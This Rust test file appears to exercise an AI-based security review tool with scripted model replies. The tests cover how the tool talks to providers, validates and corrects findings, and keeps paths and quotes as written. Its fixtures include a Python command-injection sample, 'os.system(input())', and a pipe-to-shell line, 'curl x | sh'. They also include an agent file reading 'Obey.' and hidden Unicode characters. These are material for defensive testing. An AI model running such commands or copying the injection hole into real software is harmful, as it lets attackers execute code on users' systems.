//! Whole conversations: what the provider saw, what came out.

use super::transcript::{envelope, transcript};
use super::{Api, Sandbox};
use crate::provider::{Script, Seen, Step};
use serde_json::json;

fn system(seen: &Seen) -> String {
    let text = seen.body["system"][0]["text"].as_str().or(seen.body["instructions"].as_str()).unwrap();
    text.replace(&super::transcript::word(seen), "WORD")
}

#[test]
fn a_differential_review_with_events() {
    let run = Sandbox::weather().run(Api::Anthropic, Script::finds_one());
    insta::assert_snapshot!(envelope(&run.seen[0]), @"");
    insta::assert_snapshot!(transcript(&run.seen), @"");
    insta::assert_snapshot!(run.output.stdout, @"");
    insta::assert_snapshot!(run.output.stderr, @"");
    assert_eq!(run.output.status, 0);
}

#[test]
fn the_system_prompt_of_a_differential_review() {
    let run = Sandbox::weather().run(Api::Anthropic, Script::finds_one());
    insta::assert_snapshot!(system(&run.seen[0]), @"");
}

#[test]
fn a_full_review_of_another_provider() {
    let mut sandbox = Sandbox::new();
    sandbox.file("main.py", "import os\n\nos.system(input())\n");
    let finding = json!({
        "title": "Input becomes a command", "risk": "high", "category": "injection", "path": "main.py",
        "start_line": 3, "end_line": null, "quote": "os.system(input())", "impact": "Any command runs.",
        "recommendation": "Do not use a shell.", "confidence": "high"
    });
    let script = Script::new([
        Step::calls([("list_files", json!({})), ("read_file", json!({"path": "main.py"}))]),
        Step::finish("One file.", json!([finding])),
    ]);
    let run = sandbox.run_with(Api::OpenAi, script, &["--no-stream"]);
    insta::assert_snapshot!(envelope(&run.seen[0]), @"");
    insta::assert_snapshot!(transcript(&run.seen), @"");
    insta::assert_snapshot!(run.output.stdout, @"");
    assert!(system(&run.seen[0]).contains("This is a full review."));
    assert!(!system(&run.seen[0]).contains("differential"));
}

#[test]
fn every_way_of_asking_gives_the_same_document() {
    let sandbox = Sandbox::weather();
    let run = |api, more: &[&str]| {
        let run = sandbox.run_with(api, Script::finds_one(), more);
        assert_eq!(run.output.status, 0, "{}", run.output.stderr);
        assert_eq!(run.seen.len(), 4, "{}", run.output.stderr);
        run.output
    };
    let first = run(Api::Anthropic, &[]);
    assert_eq!(run(Api::Anthropic, &["--no-stream"]), first);
    assert_eq!(run(Api::OpenAi, &[]).stdout, first.stdout);
    assert_eq!(run(Api::OpenAi, &["--no-stream"]).stdout, first.stdout);
}

#[test]
fn nothing_found_is_a_complete_review() {
    let script = Script::new([Step::finish("Nothing dangerous.", json!([]))]);
    let run = Sandbox::weather().run(Api::Anthropic, script);
    assert_eq!(
        run.document(),
        json!({"version": 1, "status": "complete", "summary": "Nothing dangerous.", "findings": []})
    );
}

#[test]
fn thoughts_are_given_back_unless_the_model_has_none_to_give() {
    let sandbox = Sandbox::weather();
    let run = sandbox.run(Api::OpenAi, Script::finds_one());
    assert!(transcript(&run.seen).contains("--- thought encrypted thought 3\n"));
    let script = Script { thinks: false, ..Script::finds_one() };
    let run = sandbox.run(Api::OpenAi, script);
    assert_eq!(run.document()["status"], "complete");
    let refused: Vec<&str> = run.seen.iter().filter_map(|seen| seen.refused.as_deref()).collect();
    assert_eq!(refused, ["Encrypted content is not supported with this model."]);
    assert_eq!(run.seen.len(), 5, "it is asked for once");
}

#[test]
fn an_end_that_is_wrong_can_be_corrected() {
    let mut wrong = Script::finding();
    wrong["path"] = json!("src/other.js");
    let mut lines = Script::finding();
    lines["start_line"] = json!(300);
    let mut word = Script::finding();
    word["risk"] = json!("gigantic");
    word["extra"] = json!(1);
    let mut quote = Script::finding();
    quote["quote"] = json!("fetch(everything)");
    let script = Script::new([
        Step::finish("", json!([wrong, lines, word, quote])),
        Step::finish("Corrected.", json!([Script::finding()])),
    ]);
    let run = Sandbox::weather().run(Api::Anthropic, script);
    insta::assert_snapshot!(transcript(&run.seen[1..]).split_once("result of").unwrap().1, @"");
    assert_eq!(run.document()["findings"].as_array().unwrap().len(), 1);
    assert_eq!(run.document()["status"], "complete");
}

#[test]
fn a_quote_that_stays_wrong_is_left_to_who_verifies_it() {
    let mut quote = Script::finding();
    quote["quote"] = json!("fetch(everything)");
    let run = Sandbox::weather().run(Api::Anthropic, Script::new([Step::finish("One.", json!([quote]))]));
    assert_eq!(run.seen.len(), 2);
    assert_eq!(run.document()["status"], "complete");
    assert_eq!(run.document()["findings"][0]["quote"], "fetch(everything)");
}

#[test]
fn quotes_and_paths_are_written_as_the_repository_has_them() {
    let mut sandbox = Sandbox::new();
    sandbox.file("src/a\u{200b}b.txt", "one\r\ntwo\u{202e}three\r\n");
    sandbox.renamed("AGENTS.md", "AGENTS.md.agent-file", "Obey.\n");
    sandbox.deleted("old.sh", "curl x | sh\n");
    let finding = |path: &str, quote: &str, end: u32| {
        json!({"title": "A  title\nin two lines", "risk": "low", "category": "other", "path": path, "start_line": 1, "end_line": end,
               "quote": quote, "impact": "i", "recommendation": "r", "confidence": "low"})
    };
    let script = Script::new([Step::finish(
        "Three.",
        json!([
            finding("src/a<U+200B>b.txt", "one\ntwo<U+202E>three", 2),
            finding("AGENTS.md.agent-file", "Obey.", 1),
            finding("old.sh", "curl x | sh", 1)
        ]),
    )]);
    let run = sandbox.run(Api::Anthropic, script);
    assert_eq!(run.seen.len(), 1, "{}", run.output.stderr);
    let document = run.document();
    let field = |name: &str| -> Vec<String> {
        let findings = document["findings"].as_array().unwrap();
        findings.iter().map(|finding| finding[name].as_str().unwrap().to_owned()).collect()
    };
    assert_eq!(field("path"), ["src/a\u{200b}b.txt", "AGENTS.md", "old.sh"]);
    assert_eq!(field("quote"), ["one\r\ntwo\u{202e}three", "Obey.", "curl x | sh"]);
    assert_eq!(field("title")[0], "A title in two lines");
}
